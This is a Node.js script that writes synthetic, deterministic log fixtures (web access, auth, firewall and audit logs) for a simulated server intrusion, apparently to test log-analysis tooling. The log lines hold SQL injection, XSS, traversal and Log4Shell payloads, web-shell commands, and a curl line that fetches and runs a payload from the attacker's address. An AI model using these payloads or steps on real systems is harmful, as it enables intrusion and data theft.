#!/usr/bin/env node
/**
 * Writes fixtures/demo: a small, deterministic incident on 2026-11-14 (UTC) across a web server's rotated access
 * logs, its auth log, its UFW log and its audit log. Re-run to regenerate; the output is byte-identical.
 *
 * The story: 175.16.199.14 scans the web site (nikto, sensitive files, SQL injection, traversal, Log4Shell), brute
 * forces SSH, gets in as "deploy", escalates with sudo, adds a UID 0 account, drops a web shell and pulls a large
 * backup. 89.160.20.112 port-scans the firewall; 67.43.156.14 sprays passwords over many accounts. Around it:
 * ordinary users, a crawler, static assets, a mistyped password, nightly cron. (The addresses come from MaxMind's
 * published test ranges, so the demo names no real person's machine.)
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';

const out = path.resolve(path.dirname(new URL(import.meta.url).pathname), '../fixtures/demo');
fs.rmSync(out, { recursive: true, force: true });
fs.mkdirSync(path.join(out, 'web'), { recursive: true });

let seed = 20261114;
const rand = () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
const pick = (a) => a[Math.floor(rand() * a.length)];
const pad = (n, w = 2) => String(n).padStart(w, '0');

const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const clf = (t) => {
  const d = new Date(t);
  return `${pad(d.getUTCDate())}/${MON[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
};
const rfc3339 = (t) => new Date(t).toISOString().replace('Z', '000+00:00');
const at = (day, h, m, s = 0) => Date.UTC(2026, 10, day, h, m, s);

const ATTACKER = '175.16.199.14';
const SCANNER = '89.160.20.112';
const SPRAYER = '67.43.156.14';
const USERS = ['10.0.0.5', '10.0.0.23', '192.168.1.40', '81.2.69.142', '216.160.83.56', '2.125.160.216'];
const UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
];
const BOT_UA = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const PAGES = ['/', '/about', '/pricing', '/blog/', '/blog/2026/11/release-notes', '/docs/', '/docs/install', '/contact', '/login'];
const ASSETS = ['/static/app.css', '/static/app.js', '/static/logo.svg', '/static/fonts/inter.woff2', '/favicon.ico'];

const web = [];
const access = (t, ip, method, url, status, bytes, ua, ref = '-') =>
  web.push([t, `${ip} - - [${clf(t)}] "${method} ${url} HTTP/1.1" ${status} ${bytes} "${ref}" "${ua}"`]);

// ordinary browsing over three days: each visit is a page plus its assets
for (let day = 12; day <= 14; day++) {
  for (let i = 0; i < 140; i++) {
    const t = at(day, 0, 0) + Math.floor(rand() * 86_000_000);
    const ip = pick(USERS);
    const ua = pick(UA);
    const page = pick(PAGES);
    access(t, ip, 'GET', page, 200, 2000 + Math.floor(rand() * 30000), ua, 'https://www.example.com/');
    ASSETS.slice(0, 2 + Math.floor(rand() * 3)).forEach((a, k) => access(t + 200 + k * 30, ip, 'GET', a, pick([200, 200, 304]), 500 + Math.floor(rand() * 90000), ua, `https://www.example.com${page}`));
  }
  // a crawler that hits a few missing pages
  for (let i = 0; i < 25; i++) {
    const t = at(day, 1, 0) + Math.floor(rand() * 80_000_000);
    const missing = i % 9 === 0;
    access(t, '66.249.66.1', 'GET', missing ? `/blog/old-post-${i}` : pick(PAGES), missing ? 404 : 200, missing ? 162 : 9000, BOT_UA);
  }
}

// the attack, 2026-11-14
let t = at(14, 3, 2, 5);
const NIKTO = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)';
const probes = [
  '/.env', '/.git/config', '/.git/HEAD', '/backup.sql', '/db.sql.gz', '/wp-login.php', '/wp-admin/', '/phpmyadmin/',
  '/admin/', '/administrator/', '/server-status', '/config.php.bak', '/.aws/credentials', '/id_rsa', '/.htpasswd',
  '/cgi-bin/test.cgi', '/manager/html', '/solr/admin/', '/actuator/env', '/console/', '/.DS_Store', '/web.config',
  '/info.php', '/test.php', '/shell.php', '/cmd.php', '/c99.php', '/upload.php', '/xmlrpc.php', '/old/', '/site.tar.gz',
  '/backup.zip', '/.svn/entries', '/api/v1/users', '/debug/pprof/', '/jenkins/', '/owa/', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
];
for (const p of probes) {
  t += 700 + Math.floor(rand() * 900);
  access(t, ATTACKER, 'GET', p, p === '/wp-login.php' || p === '/admin/' ? 403 : 404, 153, NIKTO);
}
const injections = [
  "/products?id=1%27%20OR%20%271%27=%271",
  '/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/download?file=../../../../etc/passwd',
  '/static/..%2f..%2f..%2fetc%2fshadow',
  '/index.php?page=php://filter/convert.base64-encode/resource=config',
];
for (const p of injections) {
  t += 1500;
  access(t, ATTACKER, 'GET', p, pick([400, 403, 500]), 230, 'sqlmap/1.8.11#stable (https://sqlmap.org)');
}
t += 2000;
access(t, ATTACKER, 'GET', '/', 200, 5120, '${jndi:ldap://175.16.199.14:1389/Exploit}');
// a 401/403 burst on the admin login
for (let i = 0; i < 12; i++) {
  t += 6000;
  access(t, ATTACKER, 'POST', '/admin/login', 401, 64, pick(UA), 'https://www.example.com/admin/login');
}
// after the SSH break-in: a web shell and a large backup leaves
access(at(14, 3, 20, 11), ATTACKER, 'POST', '/uploads/avatar.php', 200, 31, pick(UA));
access(at(14, 3, 20, 40), ATTACKER, 'GET', '/uploads/avatar.php?cmd=id', 200, 54, pick(UA));
access(at(14, 3, 21, 2), ATTACKER, 'GET', '/uploads/avatar.php?cmd=cat%20/etc/passwd', 200, 2210, pick(UA));
access(at(14, 3, 25, 30), ATTACKER, 'GET', '/backup/db-2026-11-13.tar.gz', 200, 262_144_000, 'curl/8.5.0');

web.sort((a, b) => a[0] - b[0]);
const dayOf = (ms) => new Date(ms).getUTCDate();
const linesFor = (d) => web.filter(([ms]) => dayOf(ms) === d).map(([, l]) => l).join('\n') + '\n';
// logrotate with delaycompress: the day before yesterday compressed, yesterday plain, today live
fs.writeFileSync(path.join(out, 'web/access.log.2.gz'), zlib.gzipSync(linesFor(12), { level: 9 }));
fs.writeFileSync(path.join(out, 'web/access.log.1'), linesFor(13));
fs.writeFileSync(path.join(out, 'web/access.log'), linesFor(14));

// auth.log (rsyslog's RFC 3339 format, as Debian 12 writes it)
const auth = [];
let pid = 41000;
const sys = (ms, prog, msg) => auth.push([ms, `${rfc3339(ms)} web01 ${prog}: ${msg}`]);
const sshd = (ms, msg, p = pid) => sys(ms, `sshd[${p}]`, msg);
// ordinary logins
for (const [h, m, user, ip] of [[8, 2, 'alice', '10.0.0.5'], [9, 15, 'alice', '10.0.0.5'], [13, 40, 'carol', '10.0.0.23'], [17, 5, 'alice', '10.0.0.5']]) {
  pid++;
  sshd(at(14, h, m, 12), `Accepted publickey for ${user} from ${ip} port ${50000 + pid % 9000} ssh2: ED25519 SHA256:q8Yb0n3ZJ0r9m2fQfVnC4d1XkqG2bYw3a1L9sP0uT7E`);
  sys(at(14, h, m, 12), `sshd[${pid}]`, `pam_unix(sshd:session): session opened for user ${user}(uid=1001) by (uid=0)`);
  sys(at(14, h, m, 13), 'systemd-logind[612]', `New session ${pid % 100} of user ${user}.`);
}
// bob mistypes his password once
pid++;
sshd(at(14, 10, 30, 1), 'Failed password for bob from 10.0.0.23 port 51234 ssh2');
sshd(at(14, 10, 30, 6), 'Accepted password for bob from 10.0.0.23 port 51234 ssh2');
// nightly cron with sudo (benign)
sys(at(14, 2, 0, 1), 'CRON[38001]', '(root) CMD (/usr/local/bin/backup-db --nightly)');
sys(at(14, 2, 30, 0), 'sudo', 'backup : TTY=unknown ; PWD=/var/backups ; USER=root ; COMMAND=/usr/bin/rsync -a /var/lib/postgresql/ /var/backups/pg/');
sys(at(14, 2, 30, 0), 'sudo', 'pam_unix(sudo:session): session opened for user root(uid=0) by (uid=0)');
sys(at(14, 2, 31, 9), 'sudo', 'pam_unix(sudo:session): session closed for user root');
// the scanner from the web also tries SSH: enumeration of invalid users, then root, then a hit
t = at(14, 3, 10, 2);
const invalid = ['admin', 'test', 'oracle', 'ubuntu', 'postgres', 'git', 'ftpuser', 'user', 'guest', 'pi', 'support', 'deployer', 'jenkins', 'hadoop', 'mysql', 'www', 'backup', 'dev', 'test1', 'administrator', 'nagios', 'minecraft'];
for (const u of invalid) {
  pid++;
  t += 4000 + Math.floor(rand() * 3000);
  const port = 40000 + Math.floor(rand() * 20000);
  sshd(t, `Invalid user ${u} from ${ATTACKER} port ${port}`);
  sshd(t + 1500, `Failed password for invalid user ${u} from ${ATTACKER} port ${port} ssh2`);
  sshd(t + 1700, `Connection closed by invalid user ${u} ${ATTACKER} port ${port} [preauth]`);
}
for (let i = 0; i < 8; i++) {
  pid++;
  t += 3000;
  sshd(t, `Failed password for root from ${ATTACKER} port ${41000 + i} ssh2`);
}
pid++;
t += 4000;
sshd(t, `Failed password for deploy from ${ATTACKER} port 52144 ssh2`);
sshd(t + 2600, `Accepted password for deploy from ${ATTACKER} port 52144 ssh2`);
sys(t + 2600, `sshd[${pid}]`, 'pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)');
// escalation and persistence
t = at(14, 3, 15, 30);
sys(t, 'sudo', 'deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash');
sys(t, 'sudo', 'pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1002)');
sys(t + 40_000, 'useradd[41877]', 'new group: name=sysupdate, GID=0');
sys(t + 40_000, 'useradd[41877]', 'new user: name=sysupdate, UID=0, GID=0, home=/var/lib/sysupdate, shell=/bin/bash, from=/dev/pts/1');
sys(t + 52_000, 'chpasswd[41880]', 'pam_unix(chpasswd:chauthtok): password changed for sysupdate');
sys(t + 70_000, 'usermod[41885]', "add 'deploy' to group 'sudo'");
// password spraying: many accounts, two tries each
t = at(14, 5, 40, 0);
for (const u of ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'oscar']) {
  for (let k = 0; k < 2; k++) {
    pid++;
    t += 9000 + Math.floor(rand() * 8000);
    sshd(t, `Failed password for ${u} from ${SPRAYER} port ${30000 + Math.floor(rand() * 30000)} ssh2`);
  }
}
auth.sort((a, b) => a[0] - b[0]);
fs.writeFileSync(path.join(out, 'auth.log'), auth.map(([, l]) => l).join('\n') + '\n');

// ufw.log: background noise and a port scan
const ufw = [];
const block = (ms, src, dport, proto = 'TCP') =>
  ufw.push([
    ms,
    `${rfc3339(ms)} web01 kernel: [${(ms / 1000 - 1794500000).toFixed(6)}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=${src} DST=203.0.113.10 LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=${proto} SPT=${40000 + Math.floor(rand() * 20000)} DPT=${dport} ${proto === 'TCP' ? 'WINDOW=1024 RES=0x00 SYN URGP=0' : 'LEN=24'}`,
  ]);
for (let i = 0; i < 30; i++) block(at(14, 0, 0) + Math.floor(rand() * 86_000_000), pick(['81.2.69.160', '216.160.83.61', '2.125.160.216']), pick([23, 445, 3389, 8080]));
t = at(14, 4, 0, 0);
for (const port of [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 1723, 2049, 3306, 3389, 5432, 5900, 6379, 8000, 8080, 8443, 9000, 9200, 11211, 27017]) {
  t += 900 + Math.floor(rand() * 300);
  block(t, SCANNER, port);
}
ufw.sort((a, b) => a[0] - b[0]);
fs.writeFileSync(path.join(out, 'ufw.log'), ufw.map(([, l]) => l).join('\n') + '\n');

// audit.log: what the intruder did as root, as auditd saw it
const audit = [];
let serial = 88100;
const rec = (ms, type, body) => audit.push(`type=${type} msg=audit(${(ms / 1000).toFixed(3)}:${serial}): ${body}`);
const hex = (s) => Buffer.from(s).toString('hex').toUpperCase();
const exec = (ms, exe, args, key, cwd = '/root') => {
  serial++;
  rec(ms, 'SYSCALL', `arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a1b2c0 a1=55d1c2a1b310 a2=55d1c2a1b360 a3=0 items=2 ppid=41790 pid=${41900 + serial % 100} auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm="${path.basename(exe)}" exe="${exe}" key="${key}"`);
  rec(ms, 'EXECVE', `argc=${args.length} ${args.map((a, i) => `a${i}=${/[\s"]/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`);
  rec(ms, 'CWD', `cwd="${cwd}"`);
  rec(ms, 'PATH', `item=0 name="${exe}" inode=1311 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`);
  rec(ms, 'PROCTITLE', `proctitle=${hex(args.join('\0'))}`);
};
const write = (ms, file, exe, key) => {
  serial++;
  rec(ms, 'SYSCALL', `arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55e0f1d2c3a0 a2=241 a3=1b6 items=2 ppid=41790 pid=${41900 + serial % 100} auid=1002 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm="${path.basename(exe)}" exe="${exe}" key="${key}"`);
  rec(ms, 'CWD', 'cwd="/root"');
  rec(ms, 'PATH', `item=0 name="${path.dirname(file)}/" inode=393217 dev=fd:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`);
  rec(ms, 'PATH', `item=1 name="${file}" inode=393290 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`);
  rec(ms, 'PROCTITLE', `proctitle=${hex(path.basename(exe))}`);
};
t = at(14, 3, 16, 10);
write(t, '/etc/passwd', '/usr/sbin/useradd', 'identity');
write(t + 10, '/etc/shadow', '/usr/sbin/useradd', 'identity');
serial++;
rec(t + 20, 'ADD_USER', `pid=41877 uid=0 auid=1002 ses=7 msg='op=add-user id=0 exe="/usr/sbin/useradd" hostname=web01 addr=? terminal=pts/1 res=success'`);
write(t + 22_000, '/etc/shadow', '/usr/sbin/chpasswd', 'identity');
exec(at(14, 3, 18, 3), '/usr/bin/curl', ['curl', '-s', '-o', '/tmp/.x/kworker', 'http://175.16.199.14:8000/k'], 'network_tools');
exec(at(14, 3, 18, 9), '/tmp/.x/kworker', ['/tmp/.x/kworker', '--daemon'], 'tmp_exec', '/tmp/.x');
write(at(14, 3, 19, 0), '/var/spool/cron/crontabs/root', '/usr/bin/crontab', 'cron');
write(at(14, 3, 19, 30), '/etc/ssh/sshd_config', '/usr/bin/vim.basic', 'sshd_config');
serial++;
rec(at(14, 3, 22, 0), 'CONFIG_CHANGE', 'auid=1002 ses=7 op=remove_rule key="identity" list=4 res=1');
fs.mkdirSync(path.join(out, 'audit'));
fs.writeFileSync(path.join(out, 'audit/audit.log'), audit.join('\n') + '\n');

console.log(`wrote ${out}: ${web.length} web, ${auth.length} auth, ${ufw.length} ufw, ${audit.length} audit lines`);
